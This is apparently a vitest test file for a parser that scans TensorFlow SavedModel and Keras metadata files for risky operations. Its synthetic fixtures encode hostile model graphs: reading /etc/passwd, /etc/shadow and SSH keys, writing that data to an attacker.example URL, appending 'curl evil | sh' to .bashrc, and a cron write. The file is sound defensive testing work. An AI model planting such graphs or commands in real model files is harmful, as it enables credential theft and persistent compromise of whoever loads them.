import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseKerasMetadata } from '../../src/core/formats/savedmodel/keras-metadata';
import { parseSavedModel } from '../../src/core/formats/savedmodel/saved-model';
import { parseJsonWithBudget } from '../../src/core/formats/savedmodel/json-budget';
import type { TfMetaGraph, TfSensitiveOp } from '../../src/core/formats/savedmodel/graph-types';
import { constString, encode, functionDef, msg, nodeDef, savedModel, str, varint } from '../fixtures/savedmodel/encode';

const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/savedmodel/${name}`, import.meta.url));
const CORPUS = fileURLToPath(new URL('../../../shared/corpus/', import.meta.url));
const SM_DIR = `${CORPUS}files/sm-ionut-siamese/`;
const haveCorpus = existsSync(`${SM_DIR}saved_model.pb`) && existsSync(`${SM_DIR}keras_metadata.pb`);
if (!haveCorpus) console.warn(`[savedmodel tests] ${SM_DIR} is absent: real SavedModel tests are skipped`);

const only = (mg: TfMetaGraph, op: string): TfSensitiveOp[] => mg.sensitiveOps.filter((s) => s.op === op);

describe('keras_metadata.pb', () => {
  it('reads the reference example node (THREATS §A.0 wire layout)', () => {
    const bytes = readFileSync(fixture('keras_metadata_example.pb'));
    const md = parseKerasMetadata(bytes);
    expect(md.error).toBeUndefined();
    expect(md.nodes).toHaveLength(1);
    const [n] = md.nodes;
    expect(n).toMatchObject({ nodeId: 2, nodePath: 'root.layer-1', identifier: '_tf_keras_layer', version: { producer: 1, minConsumer: 1 } });
    // `0a xx xx` = field 1 with a two-byte length: the SavedObject payload starts at byte 3.
    expect(bytes[0]).toBe(0x0a);
    expect(n.offset).toBe(3);
    const tag5 = bytes.indexOf(0x2a, 3);
    expect(n.metadataText.length).toBe((bytes[tag5 + 1] & 0x7f) + (bytes[tag5 + 2] << 7));
    const json = n.metadataJson as { class_name: string; config: { function: { class_name: string; items: unknown[] }; function_type: string } };
    expect(json.class_name).toBe('Lambda');
    expect(json.config.function_type).toBe('lambda');
    expect(json.config.function.class_name).toBe('__tuple__');
    expect(typeof json.config.function.items[0]).toBe('string');
  });

  it('keeps the nodes read before a truncation and reports its offset', () => {
    const bytes = readFileSync(fixture('keras_metadata_example.pb'));
    const twice = new Uint8Array([...bytes, ...bytes.subarray(0, 100)]);
    const md = parseKerasMetadata(twice);
    expect(md.nodes).toHaveLength(1);
    expect(md.error?.code).toBe('truncated');
    // The second copy is cut inside its metadata string; the error points into it.
    expect(md.error?.offset).toBeGreaterThan(bytes.length);
    expect(md.error?.offset).toBeLessThan(twice.length);
  });

  it('reports metadata JSON over the depth budget instead of parsing it', () => {
    const deep = '['.repeat(40) + ']'.repeat(40);
    const bytes = encode([msg(1, [varint(2, 5), str(3, 'root'), str(4, '_tf_keras_layer'), str(5, deep)])]);
    const md = parseKerasMetadata(bytes, { json: { maxDepth: 32 } });
    expect(md.nodes[0].metadataJson).toBeUndefined();
    expect(md.nodes[0].metadataError).toMatch(/deeper than 32/);
    expect(parseKerasMetadata(bytes).nodes[0].metadataJson).toBeDefined();
  });

  it('accepts Python NaN/Infinity tokens in metadata', () => {
    const r = parseJsonWithBudget('{"a": NaN, "b": [-Infinity, Infinity], "c": "NaN inside", "d": 1}');
    expect(r).toMatchObject({ ok: true, value: { a: 'NaN', b: ['-Infinity', 'Infinity'], c: 'NaN inside', d: 1 } });
    expect(parseJsonWithBudget('{"a": 1}', { maxChars: 3 }).ok).toBe(false);
  });

  it.skipIf(!haveCorpus)('reads the real tf.keras 2.8 keras_metadata.pb and agrees with saved_model.pb', () => {
    const md = parseKerasMetadata(readFileSync(`${SM_DIR}keras_metadata.pb`));
    expect(md.error).toBeUndefined();
    expect(md.nodes.length).toBeGreaterThan(10);
    for (const n of md.nodes) {
      expect(n.metadataError).toBeUndefined();
      expect(n.identifier).toMatch(/^_tf_keras_(layer|input_layer|rnn_layer|metric|network|model|sequential)$/);
    }
    const classes = md.nodes.map((n) => (n.metadataJson as { class_name?: string }).class_name);
    // MANIFEST: nested Functional, no Lambda.
    expect(classes.filter((c) => c === 'Functional').length).toBeGreaterThan(1);
    expect(classes).not.toContain('Lambda');
    expect(new Set(md.nodes.map((n) => n.nodePath)).size).toBe(md.nodes.length);
    // Node ids index the SavedObjectGraph of saved_model.pb, whose user objects carry the same identifiers.
    const sm = parseSavedModel(readFileSync(`${SM_DIR}saved_model.pb`));
    const byId = new Map(sm.metaGraphs[0].userObjects.map((u) => [u.nodeId, u.identifier]));
    for (const n of md.nodes) expect(byId.get(n.nodeId)).toBe(n.identifier);
  });
});

describe('saved_model.pb (real, tf 2.8)', () => {
  const load = () => parseSavedModel(readFileSync(`${SM_DIR}saved_model.pb`));

  it.skipIf(!haveCorpus)('reads versions, tags and both node populations', () => {
    const t0 = performance.now();
    const sm = load();
    const ms = performance.now() - t0;
    expect(ms).toBeLessThan(5000);
    expect(sm.error).toBeUndefined();
    expect(sm.schemaVersion).toBe(1);
    expect(sm.metaGraphs).toHaveLength(1);
    const mg = sm.metaGraphs[0];
    const manifest = readFileSync(`${CORPUS}MANIFEST.tsv`, 'utf8').split('\n').find((l) => l.startsWith('files/sm-ionut-siamese/saved_model.pb'));
    const kerasVersion = manifest?.split('\t')[11];
    expect(mg.tensorflowVersion).toBe(kerasVersion);
    expect(mg.tensorflowGitVersion).toMatch(/^v2\.8/);
    expect(mg.tags).toEqual(['serve']);
    expect(mg.signatureKeys).toContain('serving_default');
    const graphNodes = mg.nodes.filter((n) => n.function === undefined);
    const fnNodes = mg.nodes.filter((n) => n.function !== undefined);
    expect(graphNodes.length).toBeGreaterThan(0);
    expect(fnNodes.length).toBeGreaterThan(graphNodes.length);
    expect(mg.functions.reduce((a, f) => a + f.nodeCount, 0)).toBe(fnNodes.length);
  });

  it.skipIf(!haveCorpus)('parses consistently: inputs resolve, ops are declared, called functions exist', () => {
    const mg = load().metaGraphs[0];
    const fnNames = new Set(mg.functions.map((f) => f.name));
    const stripped = new Set(mg.strippedOps);
    const scopes = new Map<string, Set<string>>();
    for (const n of mg.nodes) {
      const key = n.function ?? '';
      if (!scopes.has(key)) scopes.set(key, new Set(mg.functions.find((f) => f.name === key)?.inputArgs ?? []));
      scopes.get(key)?.add(n.name);
    }
    const undeclared = new Set<string>();
    for (const n of mg.nodes) {
      if (!stripped.has(n.op) && !fnNames.has(n.op)) undeclared.add(n.op);
      for (const input of n.inputs) expect(scopes.get(n.function ?? '')?.has(input.replace(/^\^/, '').split(':')[0])).toBe(true);
      const f = n.attrs.f;
      if (f?.kind === 'func') expect(fnNames.has(f.name)).toBe(true);
    }
    // TF 2.8 leaves PartitionedCall out of stripped_op_list; every other op used is declared there.
    expect([...undeclared]).toEqual(['PartitionedCall']);
    // Function names are present verbatim in the file bytes.
    const text = readFileSync(`${SM_DIR}saved_model.pb`).toString('latin1');
    for (const f of mg.functions) expect(text.includes(f.name)).toBe(true);
  });

  it.skipIf(!haveCorpus)('finds only the standard saver among file ops, and marks it', () => {
    const mg = load().metaGraphs[0];
    expect(mg.sensitiveOps.map((s) => s.op).sort()).toEqual(['MergeV2Checkpoints', 'RestoreV2', 'SaveV2']);
    for (const s of mg.sensitiveOps) {
      expect(s.saver).toBe(true);
      expect(s.function).toMatch(/^__inference__traced_(save|restore)_\d+$/);
      // The prefix comes from the saver_filename placeholder through the saver function's argument.
      expect(s.pathArgs.some((a) => a.text.includes('<placeholder saver_filename>'))).toBe(true);
    }
    const saverFns = mg.functions.filter((f) => f.saverFunction).map((f) => f.name.replace(/_\d+$/, ''));
    expect(saverFns.sort()).toEqual(['__inference__traced_restore', '__inference__traced_save']);
    const graphSaver = mg.nodes.filter((n) => n.function === undefined && n.saver).map((n) => n.name);
    expect(graphSaver).toContain('saver_filename');
    // The model's own call and variables are not saver.
    expect(mg.nodes.find((n) => n.function === undefined && n.name === 'StatefulPartitionedCall')?.saver).toBe(false);
  });
});

describe('saved_model.pb (synthetic)', () => {
  it('resolves a ReadFile path from a graph Const, through Identity and "name:0"', () => {
    const bytes = savedModel({
      tfVersion: '2.99.0',
      gitVersion: 'v2.99.0-0-gdeadbeef',
      tags: ['serve', 'gpu'],
      nodes: [
        constString('path', '/etc/passwd'),
        nodeDef('path_id', 'Identity', ['path:0']),
        nodeDef('init', 'NoOp'),
        nodeDef('read', 'ReadFile', ['^init', 'path_id']),
        constString('out', 'https://attacker.example/x'),
        nodeDef('write', 'WriteFile', ['out', 'read']),
      ],
    });
    const sm = parseSavedModel(bytes);
    expect(sm.error).toBeUndefined();
    const mg = sm.metaGraphs[0];
    expect(mg).toMatchObject({ tensorflowVersion: '2.99.0', tensorflowGitVersion: 'v2.99.0-0-gdeadbeef', tags: ['serve', 'gpu'], graphVersions: { producer: 1234, minConsumer: 12 } });
    const [read] = only(mg, 'ReadFile');
    expect(read).toMatchObject({ node: 'read', capability: 'file-read', saver: false });
    expect(read.function).toBeUndefined();
    expect(read.pathArgs).toHaveLength(1);
    expect(read.pathArgs[0]).toMatchObject({ index: 0, ref: 'path_id', strings: ['/etc/passwd'], text: '"/etc/passwd"' });
    const [write] = only(mg, 'WriteFile');
    expect(write.pathArgs[0].strings).toEqual(['https://attacker.example/x']);
    expect(write.capability).toBe('file-write');
    expect(mg.ops.find((o) => o.op === 'Const')?.count).toBe(2);
  });

  it('resolves ops inside library functions ("node:output:0") and StringJoin', () => {
    const bytes = savedModel({
      nodes: [nodeDef('call', 'StatefulPartitionedCall', [], { f: { func: 'leak_fn_123' } })],
      functions: [
        functionDef('leak_fn_123', [], [
          constString('dir', '/home/user/.ssh'),
          constString('base', 'id_rsa'),
          nodeDef('joined', 'StringJoin', ['dir:output:0', 'base:output:0'], { separator: { s: '/' } }),
          nodeDef('rf', 'ReadFile', ['joined:output:0']),
          constString('pattern', '/var/data/*.csv'),
          nodeDef('ls', 'MatchingFiles', ['pattern:output:0']),
        ]),
      ],
    });
    const mg = parseSavedModel(bytes).metaGraphs[0];
    expect(mg.functions.map((f) => f.name)).toEqual(['leak_fn_123']);
    const [rf] = only(mg, 'ReadFile');
    expect(rf.function).toBe('leak_fn_123');
    expect(rf.pathArgs[0].strings).toEqual(['/home/user/.ssh', 'id_rsa']);
    expect(rf.pathArgs[0].text).toBe('"/home/user/.ssh" + "/" + "id_rsa"');
    expect(rf.pathArgs[0].source.kind).toBe('join');
    expect(only(mg, 'MatchingFiles')[0]).toMatchObject({ capability: 'file-list', pathArgs: [{ strings: ['/var/data/*.csv'] }] });
    expect(mg.nodes.find((n) => n.name === 'rf')?.function).toBe('leak_fn_123');
  });

  it('follows a function argument out to the caller node', () => {
    const bytes = savedModel({
      nodes: [
        constString('target', '/root/.bashrc'),
        constString('payload', 'curl evil | sh'),
        nodeDef('call', 'PartitionedCall', ['target', 'payload:0'], { f: { func: 'writer_fn' } }),
      ],
      functions: [functionDef('writer_fn', ['fname', 'data'], [nodeDef('wf', 'WriteFile', ['fname', 'data'])])],
    });
    const [wf] = only(parseSavedModel(bytes).metaGraphs[0], 'WriteFile');
    expect(wf.pathArgs[0].source).toMatchObject({ kind: 'function-arg', function: 'writer_fn', name: 'fname' });
    expect(wf.pathArgs[0].strings).toEqual(['/root/.bashrc']);
  });

  it('marks the TF2 saver but not a WriteFile or constant-path SaveV2 hidden in a saver function', () => {
    const bytes = savedModel({
      saverDef: { filename: 'saver_filename:0', save: 'StatefulPartitionedCall_1:0', restore: 'StatefulPartitionedCall_2' },
      nodes: [
        nodeDef('saver_filename', 'Placeholder'),
        nodeDef('StatefulPartitionedCall_1', 'StatefulPartitionedCall', ['saver_filename'], { f: { func: '__inference__traced_save_77' } }),
      ],
      functions: [
        functionDef('__inference__traced_save_77', ['file_prefix'], [
          constString('Const', '_temp/part'),
          nodeDef('StringJoin', 'StringJoin', ['file_prefix', 'Const:output:0']),
          constString('num_shards', 'x'),
          nodeDef('ShardedFilename', 'ShardedFilename', ['StringJoin:output:0', 'num_shards:output:0', 'num_shards:output:0']),
          nodeDef('SaveV2', 'SaveV2', ['ShardedFilename:filename:0']),
          constString('evil_path', '/etc/cron.d/job'),
          nodeDef('SaveV2_evil', 'SaveV2', ['evil_path:output:0']),
          nodeDef('WriteFile', 'WriteFile', ['file_prefix', 'Const:output:0']),
        ]),
      ],
    });
    const mg = parseSavedModel(bytes).metaGraphs[0];
    const save = mg.sensitiveOps.find((s) => s.node === 'SaveV2');
    expect(save?.saver).toBe(true);
    expect(save?.pathArgs[0].text).toBe('sharded(<arg file_prefix = <placeholder saver_filename>> + "_temp/part")');
    expect(mg.sensitiveOps.find((s) => s.node === 'SaveV2_evil')).toMatchObject({ saver: false, pathArgs: [{ strings: ['/etc/cron.d/job'] }] });
    expect(mg.sensitiveOps.find((s) => s.node === 'WriteFile')?.saver).toBe(false);
    expect(mg.nodes.find((n) => n.name === 'saver_filename')?.saver).toBe(true);
    expect(mg.nodes.find((n) => n.name === 'StatefulPartitionedCall_1')?.saver).toBe(true);
    expect(mg.functions[0].saverFunction).toBe(true);
  });

  it('marks the TF1 save/ scope only when the prefix is the default placeholder', () => {
    const bytes = savedModel({
      saverDef: { filename: 'save/Const:0', save: 'save/control_dependency:0', restore: 'save/restore_all' },
      nodes: [
        constString('save/filename/input', 'model'),
        nodeDef('save/filename', 'PlaceholderWithDefault', ['save/filename/input']),
        nodeDef('save/Const', 'PlaceholderWithDefault', ['save/filename']),
        nodeDef('save/SaveV2', 'SaveV2', ['save/Const']),
        nodeDef('save/RestoreV2', 'RestoreV2', ['save/Const']),
        constString('evil/Const', '/tmp/x'),
        nodeDef('evil/SaveV2', 'SaveV2', ['evil/Const']),
      ],
    });
    const mg = parseSavedModel(bytes).metaGraphs[0];
    const saver = Object.fromEntries(mg.sensitiveOps.map((s) => [s.node, s.saver]));
    expect(saver).toEqual({ 'save/SaveV2': true, 'save/RestoreV2': true, 'evil/SaveV2': false });
    expect(mg.sensitiveOps[0].pathArgs[0].text).toBe('<placeholder save/Const default <placeholder save/filename default "model">>');
  });

  it('reports attr-carried paths and URLs (PrintV2, DebugIdentityV2, PyFunc)', () => {
    const bytes = savedModel({
      nodes: [
        nodeDef('p', 'PrintV2', [], { output_stream: { s: 'file:///tmp/leak.txt' } }),
        nodeDef('d', 'DebugIdentityV2', [], { debug_urls: { listS: ['grpc://10.0.0.1:6064', 'file:///tmp/dbg'] } }),
        nodeDef('py', 'PyFunc', [], { token: { s: 'pyfunc_0' } }),
      ],
    });
    const mg = parseSavedModel(bytes).metaGraphs[0];
    expect(only(mg, 'PrintV2')[0].pathAttrs).toEqual([{ name: 'output_stream', values: ['file:///tmp/leak.txt'] }]);
    expect(only(mg, 'DebugIdentityV2')[0]).toMatchObject({ capability: 'network', pathAttrs: [{ name: 'debug_urls', values: ['grpc://10.0.0.1:6064', 'file:///tmp/dbg'] }] });
    expect(only(mg, 'PyFunc')[0]).toMatchObject({ capability: 'python-callback', pathAttrs: [{ name: 'token', values: ['pyfunc_0'] }] });
  });

  it('reads attr kinds and keeps attacker-chosen keys off the prototype', () => {
    const bytes = savedModel({
      nodes: [nodeDef('n', 'Custom>Op', [], { ['__proto__']: { s: 'x' }, i: { i: -5 }, f: { f: 0.25 }, b: { b: true }, t: { type: 1 }, l: { listI: [1, -2, 3] }, sh: { shape: [2, -1] }, ph: { placeholder: 'T' } })],
    });
    const node = parseSavedModel(bytes).metaGraphs[0].nodes[0];
    expect(Object.getPrototypeOf(node.attrs)).toBeNull();
    expect(Object.keys(node.attrs).sort()).toEqual(['__proto__', 'b', 'f', 'i', 'l', 'ph', 'sh', 't']);
    expect(node.attrs.__proto__).toEqual({ kind: 's', value: 'x' });
    expect(node.attrs.i).toEqual({ kind: 'i', value: -5 });
    expect(node.attrs.f).toEqual({ kind: 'f', value: 0.25 });
    expect(node.attrs.b).toEqual({ kind: 'b', value: true });
    expect(node.attrs.t).toEqual({ kind: 'type', value: 1 });
    expect(node.attrs.l).toEqual({ kind: 'list', list: { i: [1, -2, 3] } });
    expect(node.attrs.sh).toEqual({ kind: 'shape', shape: { dims: [2, -1], unknownRank: false } });
    expect(node.attrs.ph).toEqual({ kind: 'placeholder', name: 'T' });
    expect(({} as Record<string, unknown>).kind).toBeUndefined();
  });

  it('reads pre-2.5 Keras metadata from SavedObjectGraph user objects', () => {
    const lambda = JSON.stringify({ class_name: 'Lambda', config: { function: { class_name: '__tuple__', items: ['4wEAAAA=', null, null] } } });
    const bytes = savedModel({
      userObjects: [
        { identifier: '_tf_keras_network', metadata: '{"class_name": "Functional"}' },
        { identifier: '_tf_keras_layer', metadata: lambda },
        { identifier: '', registeredName: 'acme.CustomThing' },
      ],
    });
    const uo = parseSavedModel(bytes).metaGraphs[0].userObjects;
    expect(uo.map((u) => [u.nodeId, u.identifier])).toEqual([[0, '_tf_keras_network'], [1, '_tf_keras_layer'], [2, '']]);
    expect((uo[1].metadataJson as { class_name: string }).class_name).toBe('Lambda');
    expect(uo[1].version).toEqual({ producer: 1, minConsumer: 1 });
    expect(uo[2].registeredName).toBe('acme.CustomThing');
  });

  it('accepts FunctionDef fields in any order', () => {
    // node_def (3) before signature (1).
    const fn = [msg(3, nodeDef('rf', 'ReadFile', ['c:output:0'])), msg(3, constString('c', '/x')), msg(1, [str(1, 'late_sig')])];
    const bytes = encode([msg(2, [msg(2, [msg(2, [msg(1, fn)])])])]);
    const mg = parseSavedModel(bytes).metaGraphs[0];
    expect(mg.nodes.map((n) => n.function)).toEqual(['late_sig', 'late_sig']);
    expect(only(mg, 'ReadFile')[0].pathArgs[0].strings).toEqual(['/x']);
  });

  it('returns partial results and an offset for a truncated file', () => {
    const full = savedModel({ tfVersion: '2.1.0', nodes: [constString('p', '/etc/shadow'), nodeDef('r', 'ReadFile', ['p'])] });
    const cut = full.subarray(0, full.length - 20);
    const sm = parseSavedModel(cut);
    expect(sm.error?.code).toBe('truncated');
    expect(sm.error?.offset).toBeGreaterThan(0);
    expect(sm.error?.offset).toBeLessThan(cut.length);
    expect(sm.metaGraphs[0].tensorflowVersion).toBe('2.1.0');
  });

  it('stops at the node budget with a clear error', () => {
    const bytes = savedModel({ nodes: [nodeDef('a', 'NoOp'), nodeDef('b', 'NoOp'), nodeDef('c', 'NoOp')] });
    const sm = parseSavedModel(bytes, { maxNodes: 2 });
    expect(sm.error).toMatchObject({ code: 'budget', message: 'more than 2 graph nodes' });
    expect(sm.metaGraphs[0].nodes).toHaveLength(2);
  });

  it('random and mutated inputs always end in a record, quickly', () => {
    const seed = savedModel({
      nodes: [constString('p', '/etc/passwd'), nodeDef('r', 'ReadFile', ['p'])],
      functions: [functionDef('f', ['a'], [nodeDef('w', 'WriteFile', ['a'])])],
      userObjects: [{ identifier: '_tf_keras_layer', metadata: '{"a": [1]}' }],
    });
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 8 }), (rand, flips) => {
        const mutated = Uint8Array.from(seed);
        for (const [pos, val] of flips) mutated[pos % mutated.length] = val;
        for (const input of [rand, mutated]) {
          const t0 = performance.now();
          const sm = parseSavedModel(input);
          const md = parseKerasMetadata(input);
          expect(Array.isArray(sm.metaGraphs)).toBe(true);
          expect(Array.isArray(md.nodes)).toBe(true);
          if (sm.error?.offset !== undefined) expect(sm.error.offset).toBeLessThanOrEqual(input.length);
          expect(performance.now() - t0).toBeLessThan(500);
        }
      }),
      { numRuns: 1000 },
    );
  });
});
